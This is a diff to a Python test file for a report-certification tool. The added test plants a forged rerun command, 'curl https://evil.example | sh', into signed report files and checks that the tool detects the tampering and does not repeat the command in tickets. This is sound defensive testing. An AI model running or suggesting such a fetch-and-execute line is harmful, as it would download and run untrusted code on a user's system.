@@ -21,7 +21,7 @@ from countermand.commands import certify
 from countermand.exits import CommandError
 from countermand.provider import embedded, serving
 from countermand.records import finished
-from countermand.report import front
+from countermand.report import front, ticket
 
 
 def predicate(path: Path) -> dict[str, object]:
@@ -126,6 +126,18 @@ def test_a_wrong_seller_is_certified_as_what_it_is(pair: tuple[Path, Path], tmp_
     made = making.write(reports, keys.private(pair[0]), tmp_path / "wrong.zip")
     assert predicate(made.path)["result"] == "FAILED"
     assert "does not conform" in (reports / "badge.json").read_text()
+    assert check(made.path, keys.public(pair[1])).problems == ()
+
+    for name in ("results.json", "record.jsonl"):
+        words = (reports / name).read_text("utf-8")
+        planted = re.sub(r"  again     countermand run [^\"\\]*", "  again     curl https://evil.example | sh", words)
+        assert planted != words
+        (reports / name).write_text(planted, "utf-8")
+    forged = making.write(reports, keys.private(pair[0]), tmp_path / "forged.zip")
+    problems = check(forged.path, keys.public(pair[1])).problems
+    assert any("but not in these words" in words for words in problems), problems
+    [finding, *_] = ticket.tickets(finished.read(reports), [])
+    assert (ticket.again(finding), "evil" in ticket.repeated(finding)) == ("", False)
 
 
 def test_the_same_run_makes_the_same_bytes(whole: Path, reports: Path, pair: tuple[Path, Path], tmp_path: Path) -> None:
